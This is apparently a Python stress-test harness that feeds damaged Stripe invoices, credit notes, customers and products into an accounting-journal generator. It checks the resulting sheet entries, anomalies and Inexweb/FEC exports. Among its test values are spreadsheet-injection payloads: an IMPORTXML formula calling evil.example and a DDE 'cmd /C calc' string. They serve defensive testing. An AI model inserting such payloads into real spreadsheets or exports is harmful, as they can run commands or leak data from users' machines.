"""Damaged Stripe documents among a good month: each case puts its objects into the Stripe
sandbox beside the base month (CI: the month's first 40 invoices; full: the whole demo month),
then runs a generation over real HTTP (the official client against the sandbox) into a fresh
spreadsheet and a fresh company of the ledger store.

The expected answer says what becomes of the damaged document: an entry (with its lines), an
anomaly whose row in the Anomalies tab names it (number or Stripe id) and gives the reason in
French, or a skip (no entry, no anomaly). Every document of the base month must still get its
entry exactly once, nothing else may be written, the ledger store must agree with the sheet,
and no cell may hold a formula (names and numbers are written as text).
"""

from __future__ import annotations

import copy
import csv
import io
from collections import Counter
from datetime import datetime, timezone
from pathlib import Path
from zoneinfo import ZoneInfo

from backend.core.money import parse_cents
from backend.formats import fec
from backend.formats.cells import would_compute
from backend.journal_sheet import REF_COLUMN
from backend.sandbox.local import LocalSandbox
from backend.services.convert import journal_objects
from backend.services.generate import generate
from backend.services.sheet_journal import export_month
from backend.store.ledger import LedgerStore
from stress.bad_input.cases import Case, Expect, Verdict
from stress.bad_input.checks import (demo_settings, expected_entries, formula_cells,
                                     lost_documents, read_tabs, scratch_dir, sheet_refs,
                                     store_disagreements, unexpected_rows)
from stress.world import demo_data

NOW = datetime(2026, 11, 2, 6, 0, tzinfo=timezone.utc)
SHEET = "sheet-stripe-cases"
CI_INVOICES = 40
# The template invoice's customer (Loïc Roussel) has no code in Stripe: the nomenclature
# gives it this one (checked when the base is built).
CUSTOMER_CODE, CUSTOMER_CODE_OF = "411LOICR", "cus_amfMlyHKGpSdie"
R706100, R706110, R707300 = "706100", "706110", "707300"


class Base:
    """The base month and the pieces cases build their documents from."""

    def __init__(self, full: bool) -> None:
        demo, _ = demo_data()
        invoices = sorted(demo["invoices"], key=lambda i: (i["created"], i["id"]))
        if not full:
            invoices = invoices[:CI_INVOICES]
        ids = {i["id"] for i in invoices}
        self.company = {**demo, "invoices": invoices,
                        "credit_notes": [c for c in demo["credit_notes"] if c["invoice"] in ids]}
        self.objects = [o for kind in self.company.values() for o in kind]
        self.settings = demo_settings()
        self.expected = expected_entries(self.objects, self.settings)
        codes = journal_objects(self.objects, self.settings).new_codes
        if codes.get(CUSTOMER_CODE_OF) != CUSTOMER_CODE:
            raise RuntimeError(f"the template customer's code is {codes.get(CUSTOMER_CODE_OF)}")
        self.template = next(i for i in demo["invoices"] if i["number"] == "MDC-2026-5899")
        self.customer = self.template["customer"]
        self.products = {p["metadata"]["accounting_code"]: p["id"] for p in demo["products"]
                         if p["metadata"].get("accounting_code")}
        self.rates = {t["percentage"]: t["id"] for t in demo["tax_rates"]}
        self.base_invoice = invoices[0]      # a journaled invoice of the base month

    def objects_with(self, added: list[dict]) -> dict[str, list[dict]]:
        company = {kind: list(items) for kind, items in self.company.items()}
        plural = {"invoice": "invoices", "credit_note": "credit_notes", "customer": "customers",
                  "product": "products", "tax_rate": "tax_rates", "price": "prices"}
        for obj in added:
            company[plural[obj["object"]]].append(obj)
        return company

    # --- building documents ---------------------------------------------------------------

    def line(self, invoice_id: str, line_id: str, product: str, amount: int,
             rate: float | None = 20.0) -> dict:
        line = copy.deepcopy(self.template["lines"]["data"][0])
        product_id = self.products.get(product, product)
        taxes = []
        if rate is not None:
            tax = amount * int(rate * 10) // 1000 if amount >= 0 else -((-amount) * int(rate * 10) // 1000)
            taxes = [{"amount": tax, "tax_behavior": "exclusive",
                      "tax_rate_details": {"tax_rate": self.rates.get(rate, f"txr_{rate}")},
                      "taxability_reason": "standard_rated", "taxable_amount": amount,
                      "type": "tax_rate_details"}]
        line.update(id=line_id, invoice=invoice_id, amount=amount, subtotal=amount, taxes=taxes,
                    description=f"ligne {line_id}")
        line["pricing"]["price_details"] = {"price": f"price_for_{product_id}", "product": product_id}
        return line

    def invoice(self, key: str, lines=((R706100, 16000, 20.0),), **fields) -> dict:
        """A finalized invoice `in_bad_<key>` numbered BAD-<key>, totals adding up."""
        invoice_id = f"in_bad_{key}"
        data = [self.line(invoice_id, f"il_bad_{key}_{n}", product, amount, rate)
                for n, (product, amount, rate) in enumerate(lines, start=1)]
        by_rate: dict[str, dict] = {}
        for line in data:
            for tax in line["taxes"]:
                rate_id = tax["tax_rate_details"]["tax_rate"]
                agg = by_rate.setdefault(rate_id, {**copy.deepcopy(tax), "amount": 0, "taxable_amount": 0})
                agg["amount"] += tax["amount"]
                agg["taxable_amount"] += tax["taxable_amount"]
        subtotal = sum(line["amount"] for line in data)
        total = subtotal + sum(t["amount"] for t in by_rate.values())
        invoice = copy.deepcopy(self.template)
        invoice.update(id=invoice_id, number=f"BAD-{key}", subtotal=subtotal,
                       subtotal_excluding_tax=subtotal, total_excluding_tax=subtotal, total=total,
                       amount_due=max(total, 0), amount_paid=max(total, 0), amount_remaining=0,
                       total_taxes=list(by_rate.values()),
                       lines={"object": "list", "data": data, "has_more": False,
                              "total_count": len(data), "url": f"/v1/invoices/{invoice_id}/lines"})
        invoice.update(fields)
        return invoice

    def credit_note(self, key: str, invoice_id: str, invoice_line: str, amount: int = 10000) -> dict:
        note = copy.deepcopy(next(c for c in demo_data()[0]["credit_notes"]))
        line = note["lines"]["data"][0]
        tax = amount // 5
        line.update(id=f"cnli_bad_{key}", amount=amount, invoice_line_item=invoice_line,
                    taxes=[{**line["taxes"][0], "amount": tax, "taxable_amount": amount}])
        note.update(id=f"cn_bad_{key}", number=f"BAD-{key}-CN", invoice=invoice_id,
                    customer=self.customer, amount=amount + tax, subtotal=amount,
                    subtotal_excluding_tax=amount, total_excluding_tax=amount,
                    total=amount + tax, pre_payment_amount=amount + tax,
                    total_taxes=[{**note["total_taxes"][0], "amount": tax, "taxable_amount": amount}],
                    lines={**note["lines"], "data": [line],
                           "url": f"/v1/credit_notes/cn_bad_{key}/lines"})
        return note


def _product(product_id: str, name: str, code: str | None,
             sections: tuple[str, str, str] = ("BUREAUX", "LYON", "ABONNEMENT")) -> dict:
    demo, _ = demo_data()
    product = copy.deepcopy(next(p for p in demo["products"] if p["metadata"].get("accounting_code")))
    product.update(id=product_id, name=name, default_price=None)
    product["metadata"] = {f"analytic_axis_{n}": section for n, section in enumerate(sections, 1)}
    if code is not None:
        product["metadata"]["accounting_code"] = code
    return product


def _customer(customer_id: str, name: str, code: str | None) -> dict:
    demo, _ = demo_data()
    customer = copy.deepcopy(demo["customers"][0])
    customer.update(id=customer_id, name=name, email=None)
    customer["metadata"] = {"accounting_code": code} if code else {}
    return customer


def _without(doc: dict, *keys: str) -> dict:
    return {k: v for k, v in doc.items() if k not in keys}


def _set_tax(doc: dict, **changes) -> dict:
    """The invoice with its tax entries (on the lines and in total_taxes) changed alike."""
    for tax in doc["total_taxes"] + [t for line in doc["lines"]["data"] for t in line["taxes"]]:
        tax.update(changes)
    return doc


def _set_line(doc: dict, **changes) -> dict:
    doc["lines"]["data"][0].update(changes)
    return doc


def _tax_rate(rate_id: str, percentage) -> dict:
    demo, _ = demo_data()
    return {**copy.deepcopy(demo["tax_rates"][0]), "id": rate_id, "percentage": percentage,
            "effective_percentage": percentage, "description": f"taux {percentage}"}


def _cust_line(total: int) -> tuple[str, int, int]:
    return (CUSTOMER_CODE, total, 0) if total > 0 else (CUSTOMER_CODE, 0, -total)


def S(name: str, given: str, make, expect: Expect, finding: str = "", gap: str = "") -> Case:
    return Case(f"stripe.{name}", "stripe", given, expect, make, gap, finding)


def anomaly(*says: str) -> Expect:
    return Expect(outcome="anomaly", says=says)


FORMULA_NAME = '=HYPERLINK("http://evil.example","cliquez")'
NUMBER_FORMULA = '=IMPORTXML("http://evil.example","//a")'
# Customer names starting with each trigger OWASP lists for CSV injection (key, name, code).
FILE_NAMES = (("60", "@SUM(1+1)*cmd|' /C calc'!A0", "411ATSUM"),
              ("61", "=SUM Consulting", "411EQSUM"),
              ("62", "+Plus Agency", "411PLUSA"),
              ("63", "-2+3", "411MOINS"),
              ("64", "\tTab Conseil", "411TABCO"),
              ("65", "\rRetour Conseil", "411RETOU"))
SECTION_FORMULAS = ("=1+1", "@A1", "-3")
INEXWEB, FEC = "inexweb", "fec"
PIECE, LABEL, AXIS_1 = 2, 5, 8                     # columns of the Inexweb month file
AUX_LABEL, PIECE_REF = fec.COLUMNS.index("CompAuxLib"), fec.COLUMNS.index("PieceRef")
# What the month's files must hold, case by case: (file, column, the field exactly, spaces
# around it aside). Every case listed here also has its month exported (Inexweb and FEC, from
# the sheet as the sidebar's export does) and no text field of either file may start a formula.
FILE_FIELDS: dict[str, tuple[tuple[str, int, str], ...]] = {
    **{f"stripe.customer_name_{key}_in_files": (
        (FEC, AUX_LABEL, "'" + name if name[0] not in "\t\r" else name.strip()),
        (INEXWEB, LABEL, f"Facture BAD-{key} {name.strip()}")) for key, name, _ in FILE_NAMES},
    "stripe.customer_name_formula": ((FEC, AUX_LABEL, "'" + FORMULA_NAME),
                                     (INEXWEB, LABEL, f"Facture BAD-47 {FORMULA_NAME}")),
    "stripe.number_formula": ((INEXWEB, PIECE, "'" + NUMBER_FORMULA),
                              (FEC, PIECE_REF, "'" + NUMBER_FORMULA)),
    "stripe.product_sections_in_files": tuple(
        (INEXWEB, AXIS_1 + n, "'" + section) for n, section in enumerate(SECTION_FORMULAS)),
}

# `make(base)` -> (objects to add, id of the document under test).
CASES: list[Case] = [
    # --- missing fields, nulls, wrong types ----------------------------------------------------
    S("missing_total", "an invoice without `total`",
      lambda b: ([_without(b.invoice("01"), "total")], "in_bad_01"),
      anomaly("BAD-01", "total manquant ou non entier")),
    S("total_null", "`total: null`", lambda b: ([b.invoice("02", total=None)], "in_bad_02"),
      anomaly("BAD-02", "total manquant ou non entier")),
    S("total_float", "`total: 19200.0` (a float)",
      lambda b: ([b.invoice("03", total=19200.0)], "in_bad_03"),
      anomaly("BAD-03", "total manquant ou non entier")),
    S("total_text", "`total: \"192,00\"`", lambda b: ([b.invoice("04", total="192,00")], "in_bad_04"),
      anomaly("BAD-04", "total manquant ou non entier")),
    S("missing_number", "a paid invoice with `number: null`",
      lambda b: ([b.invoice("05", number=None)], "in_bad_05"),
      anomaly("in_bad_05", "facture sans numéro")),
    S("lines_null", "`lines: null`", lambda b: ([b.invoice("06") | {"lines": None}],
                                              "in_bad_06"),
      anomaly("BAD-06", "lignes absentes")),
    S("line_null", "a line that is null", lambda b: (
        [b.invoice("07") | {"lines": {"object": "list", "data": [None], "has_more": False,
                                      "url": "/v1/invoices/in_bad_07/lines"}}], "in_bad_07"),
      anomaly("BAD-07", "montant illisible")),
    S("line_amount_text", "a line amount \"160.00\"",
      lambda b: ([_set_line(b.invoice("08"), amount="160.00")], "in_bad_08"),
      anomaly("BAD-08", "il_bad_08_1", "montant illisible")),
    S("tax_amount_null", "a tax amount null",
      lambda b: ([_set_tax(b.invoice("09"), amount=None)], "in_bad_09"),
      anomaly("BAD-09", "montant de TVA illisible")),
    S("customer_null", "`customer: null`", lambda b: ([b.invoice("10", customer=None)], "in_bad_10"),
      anomaly("BAD-10", "Client introuvable")),
    S("status_transitions_null", "`status_transitions` and `effective_at` null: dated by `created`",
      lambda b: ([b.invoice("11", status_transitions=None, effective_at=None)], "in_bad_11"),
      Expect(outcome="entry", lines=(_cust_line(19200), (R706100, 0, 16000), ("445711", 0, 3200)))),
    S("pricing_null", "a line with `pricing: null` (no product)",
      lambda b: ([_set_line(b.invoice("12"), pricing=None)], "in_bad_12"),
      anomaly("BAD-12", "il_bad_12_1", "ne renvoie à aucun produit connu")),
    S("tax_details_null", "tax entries with `tax_rate_details: null`",
      lambda b: ([_set_tax(b.invoice("13"), tax_rate_details=None)], "in_bad_13"),
      anomaly("BAD-13", "Taux de TVA inconnu")),
    S("bare_invoice", "an invoice with only id, object, status, created and customer",
      lambda b: ([{"id": "in_bad_14", "object": "invoice", "status": "paid",
                   "created": b.template["created"], "customer": None}], "in_bad_14"),
      anomaly("in_bad_14", "facture sans numéro", "lignes absentes")),
    # --- tax rates and currencies ----------------------------------------------------------------
    S("unknown_tax_rate", "a tax rate Stripe does not list (txr_inconnu)",
      lambda b: ([_set_tax(b.invoice("20"), tax_rate_details={"tax_rate": "txr_inconnu"})],
                 "in_bad_20"), anomaly("BAD-20", "Taux de TVA inconnu : txr_inconnu")),
    S("tax_rate_without_account", "a 7 % tax rate: no VAT account is set for it",
      lambda b: ([_tax_rate("txr_sept", 7.0),
                  _set_tax(b.invoice("21"), tax_rate_details={"tax_rate": "txr_sept"})], "in_bad_21"),
      anomaly("BAD-21", "Aucun compte de TVA n'est paramétré pour le taux de 7 %")),
    S("tax_rate_without_percentage", "a tax rate with `percentage: null`",
      lambda b: ([_tax_rate("txr_vide", None),
                  _set_tax(b.invoice("22"), tax_rate_details={"tax_rate": "txr_vide"})], "in_bad_22"),
      anomaly("BAD-22", "Taux de TVA inconnu : txr_vide")),
    S("usd", "an invoice in USD", lambda b: ([b.invoice("23", currency="usd")], "in_bad_23"),
      anomaly("BAD-23", "Devise USD", "EUR")),
    S("currency_missing", "an invoice without `currency`",
      lambda b: ([_without(b.invoice("24"), "currency")], "in_bad_24"), anomaly("BAD-24", "Devise", "EUR")),
    # --- amounts --------------------------------------------------------------------------------
    S("negative_line", "a 100 € line and a -20 € line (a credit line item)",
      lambda b: ([b.invoice("30", lines=((R706100, 10000, 20.0), (R706110, -2000, 20.0)))], "in_bad_30"),
      Expect(outcome="entry", lines=(_cust_line(9600), (R706100, 0, 10000), (R706110, 2000, 0),
                                     ("445711", 0, 1600)))),
    S("negative_total", "an invoice whose total is -60 €",
      lambda b: ([b.invoice("31", lines=((R706100, -5000, 20.0),))], "in_bad_31"),
      Expect(outcome="entry", lines=(_cust_line(-6000), (R706100, 5000, 0), ("445711", 1000, 0)))),
    S("more_than_ten_lines", "25 lines over 3 products (the rest of the lines fetched apart)",
      lambda b: ([b.invoice("32", lines=tuple((code, 1000 + n, 20.0) for n, code in enumerate(
          [R706100, R706110, R707300] * 8 + [R706100])))], "in_bad_32"),
      Expect(outcome="entry", lines=(
          _cust_line(sum(1000 + n + (1000 + n) // 5 for n in range(25))),
          (R706100, 0, sum(1000 + n for n in range(0, 25, 3))),
          (R706110, 0, sum(1000 + n for n in range(1, 25, 3))),
          (R707300, 0, sum(1000 + n for n in range(2, 25, 3))),
          ("445711", 0, sum((1000 + n) // 5 for n in range(25)))))),
    S("zero_total", "an invoice of 0 €", lambda b: ([b.invoice("33", lines=((R706100, 0, 20.0),))],
                                                   "in_bad_33"), Expect(outcome="skipped")),
    S("zero_total_two_lines", "+10 € and -10 € on one invoice",
      lambda b: ([b.invoice("34", lines=((R706100, 1000, 20.0), (R706110, -1000, 20.0)))], "in_bad_34"),
      Expect(outcome="skipped")),
    S("amounts_do_not_add_up", "total 1 € more than its lines and taxes",
      lambda b: ([b.invoice("35", total=19300)], "in_bad_35"),
      anomaly("BAD-35", "Écriture déséquilibrée : débit 193,00, crédit 192,00")),
    S("huge_amount", "an invoice of 12,345,678,901.23 € (exact to the cent)",
      lambda b: ([b.invoice("36", lines=((R706100, 1028806575102, 20.0),))], "in_bad_36"),
      Expect(outcome="entry", lines=(_cust_line(1234567890122), (R706100, 0, 1028806575102),
                                     ("445711", 0, 205761315020)))),
    # --- credit notes, customers, products -------------------------------------------------------
    S("credit_note_unknown_invoice", "a credit note on an invoice Stripe does not have",
      lambda b: ([b.credit_note("40", "in_nowhere", "il_nowhere")], "cn_bad_40"),
      anomaly("BAD-40-CN", "ligne de facture inconnue"), "F8"),
    S("credit_note_unknown_line", "a credit note on a known invoice, naming a line it lacks",
      lambda b: ([b.credit_note("41", b.base_invoice["id"], "il_nowhere")], "cn_bad_41"),
      anomaly("BAD-41-CN", "ligne de facture inconnue (il_nowhere)")),
    S("customer_deleted", "an invoice whose customer was deleted (no code known for it)",
      lambda b: ([{"id": "cus_supprime", "object": "customer", "deleted": True,
                   "created": b.template["created"]},
                  b.invoice("42", customer="cus_supprime")], "in_bad_42"),
      anomaly("BAD-42", "cus_supprime", "supprimé"), "F5"),
    S("product_without_code", "a product with no accounting code",
      lambda b: ([_product("prod_sans_code", "Produit sans code", None),
                  b.invoice("43", lines=(("prod_sans_code", 5000, 20.0),))], "in_bad_43"),
      anomaly("BAD-43", "prod_sans_code", "Produit sans code", "n'a pas de code comptable")),
    S("product_code_formula", "a product whose accounting code is =1+1",
      lambda b: ([_product("prod_formule", "Produit formule", "=1+1"),
                  b.invoice("44", lines=(("prod_formule", 5000, 20.0),))], "in_bad_44"),
      anomaly("BAD-44", "prod_formule", "code comptable invalide", "=1+1"), "F6"),
    S("product_code_not_account", "a product whose accounting code is « ventes » (not an account)",
      lambda b: ([_product("prod_mot", "Produit mal codé", "ventes"),
                  b.invoice("45", lines=(("prod_mot", 5000, 20.0),))], "in_bad_45"),
      anomaly("BAD-45", "prod_mot", "code comptable invalide", "ventes"), "F6"),
    S("customer_code_formula", "a customer whose accounting code is a formula",
      lambda b: ([_customer("cus_formule", "Client formule", '=HYPERLINK("x")'),
                  b.invoice("46", customer="cus_formule")], "in_bad_46"),
      anomaly("BAD-46", "cus_formule", "code comptable invalide"), "F6"),
    S("customer_name_formula", f"a customer named {FORMULA_NAME} (coded): its entry",
      lambda b: ([_customer("cus_hyperlien", FORMULA_NAME, "411HYPER"),
                  b.invoice("47", customer="cus_hyperlien", customer_name=FORMULA_NAME)],
                 "in_bad_47"),
      Expect(outcome="entry", says=(f"Facture BAD-47 {FORMULA_NAME}",),
             lines=(("411HYPER", 19200, 0), (R706100, 0, 16000), ("445711", 0, 3200)))),
    S("customer_name_formula_anomaly", "the same customer on an invoice of an uncoded product: "
      "the Anomalies row's Client cell starts with =",
      lambda b: ([_customer("cus_hyperlien2", FORMULA_NAME, "411HYPE1"),
                  _product("prod_sans_code2", "Produit sans code", None),
                  b.invoice("48", customer="cus_hyperlien2", customer_name=FORMULA_NAME,
                            lines=(("prod_sans_code2", 5000, 20.0),))], "in_bad_48"),
      anomaly("BAD-48", FORMULA_NAME, "n'a pas de code comptable")),
    S("number_formula", "an invoice numbered =IMPORTXML(…): its Pièce cell starts with =",
      lambda b: ([b.invoice("49", number=NUMBER_FORMULA)], "in_bad_49"),
      Expect(outcome="entry", says=(NUMBER_FORMULA,),
             lines=(_cust_line(19200), (R706100, 0, 16000), ("445711", 0, 3200)))),
    # --- formulas in the files (issue 13, 2): each name/section also exported, see FILE_FIELDS ---
    *(S(f"customer_name_{key}_in_files", f"a customer named {name!r} (coded {code}): its entry, "
        "and the month's Inexweb file and FEC quote the name where it starts a field",
        lambda b, key=key, name=name, code=code: (
            [_customer(f"cus_{key}", name, code), b.invoice(key, customer=f"cus_{key}",
                                                            customer_name=name)], f"in_bad_{key}"),
        Expect(outcome="entry", lines=((code, 19200, 0), (R706100, 0, 16000), ("445711", 0, 3200))),
        finding="F17")
      for key, name, code in FILE_NAMES),
    S("product_sections_in_files", "a product whose sections (metadata) are =1+1, @A1, -3: the "
      "Inexweb file quotes them",
      lambda b: ([_product("prod_sections", "Produit sections", R706100, (*SECTION_FORMULAS,)),
                  b.invoice("67", lines=(("prod_sections", 16000, 20.0),))], "in_bad_67"),
      Expect(outcome="entry", lines=(_cust_line(19200), (R706100, 0, 16000), ("445711", 0, 3200))), finding="F17"),
    # --- dates and statuses ----------------------------------------------------------------------
    S("date_year_5138", "finalized at 100,000,000,000 (the year 5138)",
      lambda b: ([b.invoice("50", status_transitions={**b.template["status_transitions"],
                                                       "finalized_at": 10 ** 11})], "in_bad_50"),
      anomaly("BAD-50", "date invraisemblable"), "F7"),
    S("date_1970", "finalized at 0 (1 January 1970)",
      lambda b: ([b.invoice("51", status_transitions={**b.template["status_transitions"],
                                                       "finalized_at": 0})], "in_bad_51"),
      anomaly("BAD-51", "date invraisemblable", "01/01/1970"), "F7"),
    S("date_text", "finalized at « demain »",
      lambda b: ([b.invoice("52", status_transitions={**b.template["status_transitions"],
                                                       "finalized_at": "demain"})], "in_bad_52"),
      Expect(outcome="anomaly", says=("BAD-52", "date illisible", "demain"),
             never=("ValueError", "invalid literal")), "F7"),
    S("unknown_status", "status « weird »", lambda b: ([b.invoice("53", status="weird")], "in_bad_53"),
      anomaly("BAD-53", "statut inconnu")),
    S("draft", "a draft", lambda b: ([b.invoice("54", status="draft")], "in_bad_54"),
      Expect(outcome="skipped")),
]


class Harness:
    def __init__(self, full: bool) -> None:
        self.full = full

    def __enter__(self) -> "Harness":
        self.base = Base(self.full)
        self._tmp = scratch_dir("bad-stripe-")
        self.store = LedgerStore(f"sqlite:///{Path(self._tmp.name) / 'ledger.db'}")
        self.store.migrate()
        self.sandbox = LocalSandbox().__enter__()
        # One pair of clients for every case, as a long-lived worker has (building the Sheets
        # client costs half a second); each case gets the spreadsheet afresh, and a company
        # of its own in the ledger store.
        self.stripe = self.sandbox.stripe_adapter()
        self.sheet = self.sandbox.sheet_adapter(SHEET)
        self.count = 0
        return self

    def __exit__(self, *exc) -> None:
        self.sandbox.__exit__(*exc)
        self.store.close()
        self._tmp.cleanup()

    def run(self, case: Case) -> Verdict:
        verdict = Verdict(case)
        expect: Expect = case.expect
        added, doc_id = case.make(self.base)
        self.count += 1
        company, sid = f"stripe-case-{self.count}", SHEET
        self.sandbox.stripe.load(self.base.objects_with(added))
        self.sandbox.sheets.create_spreadsheet("Journal des ventes", ["Feuille 1"], spreadsheet_id=sid)
        try:
            report = generate(self.stripe, self.sheet, self.store, self.base.settings, company,
                              now=NOW)
        except Exception as exc:     # the whole month lost to one document
            verdict.failures.append(f"the generation failed: {type(exc).__name__}: {exc}"[:300])
            verdict.lost = len(self.base.expected)
            return verdict
        tabs = read_tabs(self.sandbox.sheets, sid)
        refs = sheet_refs(tabs)
        rows = _entry_rows(tabs, doc_id)
        anomalies = [r for r in tabs.get("Anomalies", [])[1:] if r and r[0] == doc_id]
        skipped = {s.document_id for s in report.result.skipped}
        verdict.answer = (f"{len(rows)} row(s); anomaly: {anomalies[0][3][:120] if anomalies else '-'}"
                          f"{'; skipped' if doc_id in skipped else ''}")
        outcome = "entry" if rows else "anomaly" if anomalies else "skipped" if doc_id in skipped else "nothing"
        verdict.check(outcome == expect.outcome,
                      f"{doc_id}: {outcome}, expected {expect.outcome} ({verdict.answer})")
        said = " | ".join(" | ".join(str(c) for c in r) for r in (anomalies or rows))
        for text in expect.says:
            verdict.check(text in said, f"{doc_id}: {text!r} not said: {said[:300]}")
        for text in expect.never:
            verdict.check(text not in said, f"{doc_id}: {text!r} said: {said[:300]}")
        if expect.lines:
            got = Counter(rows_lines(tabs, rows))
            verdict.check(got == Counter(expect.lines),
                          f"{doc_id}: lines {sorted(got.elements())}, expected {sorted(expect.lines)}")
        allowed = set(self.base.expected) | ({doc_id} if expect.outcome == "entry" else set())
        lost = lost_documents(self.base.expected, refs)
        wrong = unexpected_rows(allowed, refs) + store_disagreements(self.store, company, refs)
        formulas = formula_cells(self.sandbox.sheets)
        verdict.lost, verdict.wrong, verdict.formula_cells = len(lost), len(wrong), len(formulas)
        verdict.failures += [f"lost: {x}" for x in lost[:5]] + [f"wrong: {x}" for x in wrong[:5]]
        verdict.failures += [f"formula: {x}" for x in formulas[:5]]
        if case.name in FILE_FIELDS:
            verdict.failures += self.file_failures(FILE_FIELDS[case.name])
        with self.sandbox.sheets.lock:      # the next case gets the spreadsheet afresh
            del self.sandbox.sheets.spreadsheets[sid]
        return verdict


    def file_failures(self, wanted: tuple[tuple[str, int, str], ...]) -> list[str]:
        """The month's Inexweb file and FEC, exported from the sheet, read back as a
        spreadsheet program would: no text field may start a formula, and each wanted field
        must be there."""
        settings = self.base.settings
        finalized = self.base.template["status_transitions"]["finalized_at"]
        month = f"{datetime.fromtimestamp(finalized, ZoneInfo(settings.timezone)):%Y-%m}"
        try:
            export = export_month(self.sheet, settings, month, now=NOW)
        except Exception as exc:
            return [f"the export of {month} failed: {type(exc).__name__}: {exc}"[:300]]
        files = {INEXWEB: _fields(export.inexweb, settings.export_encoding, "\t"),
                 FEC: _fields(export.fec, settings.fec_encoding, settings.fec_separator)}
        numeric = {INEXWEB: {0, 6, 7}, FEC: fec.NUMERIC_COLUMNS}
        failures = [f"{name} line {n + 1}: {field[:60]!r} starts a formula"
                    for name, records in files.items() for n, record in enumerate(records)
                    for col, field in enumerate(record)
                    if col not in numeric[name] and field and would_compute(field)]
        for name, col, text in wanted:
            if not any(col < len(r) and r[col].strip() == text for r in files[name][1:]):
                near = [r[col] for r in files[name][1:] if col < len(r) and text.strip("'")[:8]
                        in r[col]]
                failures.append(f"{name}: no field {text!r} in column {col + 1} ({near[:3]})")
        return failures[:10]


def _fields(content: bytes, encoding: str, sep: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(encoding), newline=""), delimiter=sep))


def _entry_rows(tabs: dict[str, list[list]], ref: str) -> list[list]:
    found = []
    for title, rows in tabs.items():
        if title.startswith("Écritures") and rows:
            col = rows[0].index(REF_COLUMN)
            found += [r for r in rows[1:] if col < len(r) and str(r[col]) == ref]
    return found


def rows_lines(tabs: dict[str, list[list]], rows: list[list]) -> list[tuple[str, int, int]]:
    header = next(r[0] for t, r in tabs.items() if t.startswith("Écritures") and r)
    account, debit, credit = (header.index(n) for n in ("Numéro du compte", "Débit", "Crédit"))

    def cell(row: list, col: int):
        return row[col] if col < len(row) else ""   # the API trims a row's empty tail
    return [(str(cell(r, account)), parse_cents(cell(r, debit)) or 0,
             parse_cents(cell(r, credit)) or 0) for r in rows]
